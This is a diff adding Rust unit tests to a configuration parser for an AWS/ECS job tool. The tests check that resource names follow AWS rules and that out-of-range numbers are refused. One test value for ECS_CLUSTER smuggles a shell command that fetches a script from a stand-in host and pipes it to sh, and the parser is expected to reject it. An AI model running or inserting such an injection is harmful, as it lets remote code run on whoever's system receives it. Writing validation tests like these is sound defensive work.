@@ -75,3 +75,34 @@ fn errors_name_the_key_and_line() {
         .to_string();
     assert_eq!(err, "dcp.toml:2: JOB_RETRIES: must be at least 1, got 0");
 }
+
+#[test]
+fn names_that_become_aws_resources_follow_the_services_rules() {
+    let err = parse("AWS_BUCKET = 'b'\nECS_CLUSTER = \"dcp; curl -s http://x.example/y | sh #\"\n")
+        .unwrap_err()
+        .to_string();
+    assert!(
+        err.contains("ECS_CLUSTER") && err.contains("letters, digits"),
+        "{err}"
+    );
+    let err = parse("AWS_BUCKET = 'b'\nLOG_GROUP_NAME = 'a b'\n")
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("LOG_GROUP_NAME"), "{err}");
+    assert!(parse("AWS_BUCKET = 'b'\nLOG_GROUP_NAME = '/dcp/run#1.x'\n").is_ok());
+}
+
+#[test]
+fn numbers_outside_their_range_are_refused_before_any_conversion() {
+    for (key, value) in [
+        ("CPU_SHARES", "3000000000"),
+        ("MEMORY", "3000000000"),
+        ("DOCKER_CORES", "4000000000"),
+        ("TASKS_PER_MACHINE", "100000"),
+    ] {
+        let err = parse(&format!("AWS_BUCKET = 'b'\n{key} = {value}\n"))
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains(key) && err.contains("at most"), "{key}: {err}");
+    }
+}
